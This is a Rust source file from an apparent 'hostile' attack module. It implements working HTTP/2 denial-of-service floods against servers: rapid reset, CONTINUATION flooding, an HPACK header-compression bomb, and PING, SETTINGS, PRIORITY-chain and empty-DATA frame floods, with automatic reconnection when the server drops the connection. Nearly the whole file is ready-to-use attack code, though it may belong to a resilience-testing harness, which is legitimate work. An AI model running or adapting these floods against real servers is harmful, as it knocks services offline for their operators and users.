//! Frames that cost nothing to send.

use std::rc::Rc;

use tokio::{
    io::{AsyncRead, AsyncReadExt as _, AsyncWriteExt as _, split},
    task::spawn_local,
};

use crate::hostile::{
    attack::{on_lanes, tables::GET_CAPACITY},
    attacker::Attacker,
    frames::{
        CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RST_STREAM, call_headers, frame, literal,
        opening, settings as settings_frame, stream,
    },
};

/// Frames that are written at once.
const FRAMES: u32 = 10;

/// A connection is replaced after this many parts, because stream ids have 31 bits.
const PARTS: u32 = 50_000_000;

/// Sends `begin` and then parts, each of which counts as this many acts. Reconnects when the server hangs up.
pub(crate) async fn flood(
    attacker: Rc<Attacker>,
    reads: bool,
    begin: Vec<u8>,
    acts: u32,
    mut part: impl FnMut(u32) -> Vec<u8>,
) {
    loop {
        let Some(wire) = attacker.connect().await else { continue };
        let (reader, mut writer) = split(wire);
        let reader = reads.then(|| spawn_local(throw_away(reader)).abort_handle());
        let mut next = begin.clone();
        for n in 0..PARTS {
            // TLS buffers what is not flushed.
            if writer.write_all(&next).await.is_err() || writer.flush().await.is_err() {
                attacker.was_ended();
                break;
            }
            attacker.acts(acts).await;
            next = part(n);
        }
        reader.inspect(tokio::task::AbortHandle::abort);
    }
}

async fn throw_away(mut from: impl AsyncRead + Unpin) {
    let mut buffer = vec![0; 1 << 14];
    while from.read(&mut buffer).await.is_ok_and(|read| read > 0) {}
}

/// The window for each answer.
const WINDOW: u32 = 1 << 16;

/// The stream ids of a part.
fn streams(n: u32) -> impl Iterator<Item = u32> {
    (0..FRAMES).map(move |m| stream(FRAMES * n + m))
}

pub(crate) async fn rapid_reset(attacker: Rc<Attacker>) {
    let headers = call_headers(GET_CAPACITY);
    let reset = 8_u32.to_be_bytes();
    let both =
        move |stream| [frame(HEADERS, END_HEADERS, stream, &headers), frame(RST_STREAM, 0, stream, &reset)].concat();
    on_lanes(attacker, |attacker, _| {
        let both = both.clone();
        flood(attacker, true, opening(WINDOW), FRAMES, move |n| streams(n).flat_map(&both).collect())
    })
    .await;
}

pub(crate) async fn continuation(attacker: Rc<Attacker>) {
    let mut more = Vec::new();
    (0..10).for_each(|n| literal(&mut more, &format!("x-{n}"), &"v".repeat(100)));
    let begin = [opening(WINDOW), frame(HEADERS, 0, 1, &call_headers(GET_CAPACITY))].concat();
    let more = frame(CONTINUATION, 0, 1, &more);
    on_lanes(attacker, |attacker, _| {
        let more = more.clone();
        flood(attacker, true, begin.clone(), 1, move |_| more.clone())
    })
    .await;
}

pub(crate) async fn hpack_bomb(attacker: Rc<Attacker>) {
    // A header of 4,000 bytes is indexed once, and then referenced by one byte, 3,000 times in each request.
    let mut once = call_headers(GET_CAPACITY);
    once.extend_from_slice(&[0x40, 1, b'x']);
    // 4,000 in HPACK: 127 and 3,873 more.
    once.extend_from_slice(&[0x7f, 0xa1, 0x1e]);
    once.extend_from_slice(&[b'v'; 4000]);
    let mut bomb = call_headers(GET_CAPACITY);
    bomb.resize(bomb.len() + 3000, 0x80 | 62);
    let begin = [opening(WINDOW), frame(HEADERS, END_HEADERS | END_STREAM, 1, &once)].concat();
    on_lanes(attacker, |attacker, _| {
        let bomb = bomb.clone();
        flood(attacker, true, begin.clone(), 1, move |n| frame(HEADERS, END_HEADERS | END_STREAM, stream(n + 1), &bomb))
    })
    .await;
}

pub(crate) async fn ping(attacker: Rc<Attacker>, reads: bool) {
    let pings = frame(PING, 0, 0, &[7; 8]).repeat(FRAMES as usize);
    on_lanes(attacker, |attacker, _| {
        let pings = pings.clone();
        flood(attacker, reads, opening(WINDOW), FRAMES, move |_| pings.clone())
    })
    .await;
}

pub(crate) async fn settings(attacker: Rc<Attacker>) {
    let part = |n: u32| (0..FRAMES).flat_map(|m| settings_frame(WINDOW + (n + m) % 1000, (n + m) % 4096)).collect();
    on_lanes(attacker, |attacker, _| flood(attacker, true, opening(WINDOW), FRAMES, part)).await;
}

pub(crate) async fn priority(attacker: Rc<Attacker>) {
    // Each stream depends on the one before, exclusively.
    let one = |stream: u32| frame(PRIORITY, 0, stream + 2, &[&(stream | 1 << 31).to_be_bytes()[..], &[7]].concat());
    on_lanes(attacker, |attacker, _| {
        flood(attacker, true, opening(WINDOW), FRAMES, move |n| streams(n).flat_map(one).collect())
    })
    .await;
}

pub(crate) async fn empty_data(attacker: Rc<Attacker>) {
    let begin = [opening(WINDOW), frame(HEADERS, END_HEADERS, 1, &call_headers(GET_CAPACITY))].concat();
    let nothing = frame(DATA, 0, 1, &[]).repeat(FRAMES as usize);
    on_lanes(attacker, |attacker, _| {
        let nothing = nothing.clone();
        flood(attacker, true, begin.clone(), FRAMES, move |_| nothing.clone())
    })
    .await;
}
